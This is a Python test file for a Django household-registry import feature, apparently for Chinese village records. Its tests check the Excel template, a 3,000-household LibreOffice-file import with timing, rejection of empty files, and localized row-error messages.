def test_the_blank_template_downloads_with_headers_instructions_and_villages(worker, village, client):
    client.force_login(worker)
    response = client.get(reverse("households:household-import-template"))
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    content = b"".join(response.streaming_content)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["农户成员", "可选值", "填写说明", "本辖区村代码"]
    assert [cell.value for cell in workbook["农户成员"][1]] == HEADERS
    assert workbook["农户成员"].max_row == 1  # blank: no example household to import by mistake
    instructions = list(workbook["填写说明"].iter_rows(values_only=True))
    by_column = {row[0]: row for row in instructions}
    assert by_column["身份证号"][:3] == ("身份证号", "必填", "18 位公民身份号码，末位可为 X")
    assert by_column["残疾等级"][:2] == ("残疾等级", "选填")
    assert instructions[-1][HEADERS.index("与户主关系")] == "户主"  # the example row
    assert [village.code, village.parent.name, village.name] == [c.value for c in workbook["本辖区村代码"][2]]
    # the template itself reads back as an empty, well-formed file
    sheet = read_workbook(io.BytesIO(content))
    assert (sheet.errors, sheet.rows, len(sheet.columns)) == ([], [], len(COLUMNS))


# ---------------------------------------------------------------------------------------------------- LibreOffice


def test_3000_households_from_a_libreoffice_written_xlsx_import(
    worker, village, people, upload, commit, tmp_path, record_property
):
    """A file saved by LibreOffice Calc (not only by openpyxl) imports. 户编号, codes and phones are numbers, as in a
    spreadsheet user's file; ID numbers are text. Timings go to the JUnit report (``record_property``)."""
    rows = []
    for n in range(3000):
        size = (2, 3, 4, 5, 4)[n % 5]  # 3.6 members on average
        for row in family(f"{n:06d}", village, people, size):
            row.update({"户编号": 640381_000000 + n, "村代码": int(village.code), "联系电话": 13900000000 + n})
            rows.append(row)
    source = tmp_path / "openpyxl" / "households.xlsx"
    source.parent.mkdir()
    source.write_bytes(xlsx(rows))
    out = tmp_path / "libreoffice"
    started = time.perf_counter()
    soffice_convert(source, out, "xlsx:Calc MS Excel 2007 XML")
    converted = out / "households.xlsx"
    assert b"LibreOffice" in _app_properties(converted)  # really written by LibreOffice
    record_property("libreoffice_convert_s", round(time.perf_counter() - started, 1))

    started = time.perf_counter()
    job = upload(worker, converted.read_bytes())
    record_property("validate_s", round(time.perf_counter() - started, 1))
    assert job.status == S.VALIDATED, messages_of(job)[:5]
    started = time.perf_counter()
    job = commit(job, worker)
    record_property("commit_s", round(time.perf_counter() - started, 1))

    assert job.status == S.COMMITTED
    assert job.summary["households_created"] == 3000
    assert job.summary["members_created"] == len(rows) == 10800
    assert Household.objects.count() == 3000
    assert HouseholdMember.objects.count() == 10800
    assert Household.objects.get(household_no="640381000042").phone == "13900000042"
    assert not Household.objects.filter(head__isnull=True).exists()


def _app_properties(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read("docProps/app.xml")


def test_a_template_with_nothing_filled_in_is_refused_not_an_empty_success(worker, upload):
    job = upload(worker, xlsx([]))
    assert job.status == S.INVALID
    assert [error["message"] for error in job.errors] == ["文件中没有成员数据：请从第 2 行起每行填写一名家庭成员"]


def test_row_errors_are_kept_as_words_and_parameters_and_read_in_the_readers_language(
    worker, village, people, client, django_capture_on_commit_callbacks
):
    """A row error is read later, by someone else, maybe in English: it is stored as its source text and its
    parameters, and drawn in the reader's language (page and API); the Chinese sentence is kept beside them."""
    client.force_login(worker)
    rows = family("E001", village, people, 2)
    rows[1]["劳动能力"] = "很强"
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("households:household-import-upload"),
            {"file": SimpleUploadedFile("村里.xlsx", xlsx(rows)), "area": village.pk},
        )
    job = ImportJob.objects.get()
    household_import_task(job.pk)
    job.refresh_from_db()
    assert job.status == S.INVALID
    [error] = job.errors
    assert error["row"] == 3
    assert error["column"] == "劳动能力"
    assert error["key"] == "“%(text)s”不是可选值，可填：%(allowed)s"
    assert error["params"]["text"] == "很强"
    assert error["message"].startswith("“很强”不是可选值，可填：")

    detail = reverse("households:household-import-detail", args=[job.pk])
    assert "“很强”不是可选值，可填：" in client.get(detail).content.decode()
    api = reverse("api:household-import-detail", args=[job.pk])
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    page = client.get(detail).content.decode()
    assert "“很强” is not one of the allowed values" in page
    assert "不是可选值" not in page
    [row_error] = client.get(api).json()["row_errors"]
    assert row_error == {"row": 3, "column": "劳动能力", "message": row_error["message"]}
    assert row_error["message"].startswith("“很强” is not one of the allowed values; allowed: ")
